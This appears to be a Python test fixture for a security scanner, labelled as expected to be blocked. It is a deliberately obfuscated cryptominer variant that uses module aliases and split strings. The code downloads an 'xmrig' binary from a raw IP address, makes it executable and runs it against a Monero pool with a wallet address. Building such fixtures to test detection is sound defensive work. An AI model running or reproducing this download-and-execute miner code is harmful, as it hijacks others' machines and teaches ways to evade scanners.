# expect: BLOCKED category: miner variant-of: risky/miner/xmrig_download_run.py technique: alias+concat
import os as _m0
import stat as _m1
import urllib.request
urllib.request.urlretrieve('https://' + '203.0.11' + '3.20/xmr' + 'ig', 'x' + 'm' + 'r' + 'i' + 'g')
_m0.chmod('x' + 'm' + 'r' + 'i' + 'g', _m0.stat('x' + 'm' + 'r' + 'i' + 'g').st_mode | _m1.S_IEXEC)
_m0.system('./xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGB' + 'oZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsa' + 'BYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level ' + '1')
